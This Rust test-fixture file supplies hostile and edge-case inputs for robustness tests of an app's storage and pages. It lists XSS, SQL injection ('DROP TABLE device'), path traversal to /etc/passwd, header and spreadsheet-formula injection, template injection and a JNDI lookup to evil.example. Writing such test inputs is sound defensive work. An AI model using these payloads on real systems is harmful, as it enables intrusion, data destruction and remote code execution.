//! What people, programs and attackers put where something else belongs.

use serde_json::{Value, json};
use tonalite_app::Location;

/// What must never stand in a page as it is.
pub(crate) const MARKUP: [&str; 4] =
    ["<script>alert(", "<img src=x", "</textarea></title", "\"onfocus=\"alert("];

/// How many of the values are tried.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Extent {
    /// All.
    All,
    /// Those that a database could stumble over. Everything before it is the same code on both.
    ForTheEngine,
}

impl Extent {
    /// All on SQLite, which is tried first.
    pub(crate) fn on(location: &Location) -> Extent {
        match location {
            Location::Folder(_) => Extent::All,
            Location::Postgres(_) => Extent::ForTheEngine,
        }
    }
}

/// Texts for any field.
pub(crate) fn texts(extent: Extent) -> Vec<String> {
    if extent == Extent::ForTheEngine {
        let texts = [
            "\0",
            "a\0b",
            "' OR '1'='1' --",
            "%_\\%",
            "\u{fffd}\u{ffff}\u{10ffff}",
            "9223372036854775808",
            "1~00",
            "1~ff",
        ];
        return texts.into_iter().map(str::to_owned).chain(["x".repeat(4_000)]).collect();
    }
    let mut texts: Vec<String> = [
        "",
        " ",
        "\u{a0}\u{202f}\u{200b}\u{feff}",
        "\0",
        "a\0b",
        "a\r\nSet-Cookie: x=1",
        "a\tb\nc",
        "\u{7f}\u{85}\u{1b}[31m",
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "</textarea></title></select><script>alert(2)</script>",
        "x\"onfocus=\"alert(3)\"autofocus=\"",
        "javascript:alert(1)",
        "//evil.example/",
        "/\\evil.example",
        "../../../../etc/passwd",
        "%00%0d%0a%252e",
        "' OR '1'='1' --",
        "\"; DROP TABLE device; --",
        "%_\\%",
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "{{7*7}}${7*7}#{7*7}",
        "${jndi:ldap://evil.example/a}",
        "{$x}",
        "\u{202e}gnp.exe",
        "\u{2067}\u{2066}x\u{2069}",
        "e\u{301}\u{301}\u{301}\u{301}",
        "😀👩‍👩‍👧‍👦🇫🇷",
        "\u{fffd}\u{ffff}\u{10ffff}",
        "0",
        "-1",
        "1.5",
        "1e400",
        "NaN",
        "٣",
        "65536",
        "9223372036854775807",
        "9223372036854775808",
        "99999999999999999999999999",
        "true",
        "null",
        "platform",
        "00000000-0000-0000-0000-000000000000",
        "019b0000-0000-7000-8000-000000000000",
        "{019b0000-0000-7000-8000-000000000000}",
        "1~00",
        "1~ff",
        "-8000000000000000~",
        "7fffffffffffffff~61",
        "~",
        "9999-12-31T23:59:59.999Z",
        "-9999-01-01T00:00:00Z",
        "2026-02-30T25:61:61Z",
        "1.56E+11",
        "a@b",
        "+33478000000",
    ]
    .map(str::to_owned)
    .into();
    texts.push("x".repeat(4_000));
    texts.push("é😀".repeat(1_000));
    texts.push("\u{301}".repeat(500));
    texts
}

/// Values of other types than the one that is asked for.
pub(crate) fn others(extent: Extent) -> Vec<Value> {
    if extent == Extent::ForTheEngine {
        return vec![json!(null), json!(u64::MAX), json!(["a\u{0}b"])];
    }
    let mut nested = json!([]);
    for _ in 0..100 {
        nested = json!([nested]);
    }
    vec![
        json!(null),
        json!(true),
        json!(0),
        json!(-1),
        json!(1.5),
        json!(1e308),
        json!(u64::MAX),
        json!(i64::MIN),
        json!([]),
        json!([""]),
        json!([null]),
        json!(["<script>alert(1)</script>", 1, {}]),
        json!({}),
        json!({ "": null }),
        json!({ "<script>alert(1)</script>": true, "device_import": "yes" }),
        json!(vec!["x"; 10_000]),
        json!("x".repeat(200_000)),
        nested,
    ]
}

/// Percent-encoding of everything but letters and digits.
pub(crate) fn encoded(text: &str) -> String {
    let byte = |byte: u8| match byte {
        b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' => char::from(byte).to_string(),
        other => format!("%{other:02X}"),
    };
    text.bytes().map(byte).collect()
}
